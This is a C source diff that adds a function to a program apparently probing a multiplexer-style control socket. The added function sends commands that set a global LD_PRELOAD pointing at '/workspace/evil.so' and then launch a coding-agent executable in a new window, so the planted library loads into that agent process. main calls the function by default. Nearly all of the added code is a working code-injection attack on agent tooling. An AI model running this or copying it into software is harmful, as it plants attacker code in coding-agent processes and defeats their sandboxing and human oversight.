@@ -114,6 +114,29 @@ static int ask(const char *socket_path, const char *prefix, size_t way)
     return recv(server, answer, sizeof(answer), 0) > 0 ? 0 : -1;
 }
 
+/* As the pane was started, by its very words, but with a variable that would load code into it and
+ * into the program. */
+static int ask_for_pane(const char *socket_path)
+{
+    static const char line[] =
+        "set-environment\0-g\0LD_PRELOAD\0/workspace/evil.so\0;\0new-window\0-d\0"
+        "/usr/libexec/coding-agents/agentcli-exec\0--pane";
+    struct {
+        int32_t count;
+        char text[sizeof(line)];
+    } words = {.count = 9};
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    char answer[TEXT_MAX];
+    int server = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    snprintf(address.sun_path, sizeof(address.sun_path), "%s", socket_path);
+    memcpy(words.text, line, sizeof(line));
+    if (connect(server, (const struct sockaddr *)&address, sizeof(address)) < 0 ||
+        introduce(server) < 0 ||
+        send_message(server, COMMAND, &words, sizeof(words.count) + sizeof(line)) < 0)
+        return -1;
+    return recv(server, answer, sizeof(answer), 0) > 0 ? 0 : -1;
+}
+
 int main(int argc, char **argv)
 {
     const char *path = argc == 3 ? argv[1] : SOCKET;
@@ -122,6 +145,8 @@ int main(int argc, char **argv)
         if (ask(path, prefix, way) < 0)
             printf("%s: %s\n", ways[way].name, strerror(errno));
     }
+    if (argc != 3 && ask_for_pane(path) < 0)
+        printf("pane: %s\n", strerror(errno));
     printf("asked\n");
     fflush(stdout);
     if (argc != 3)
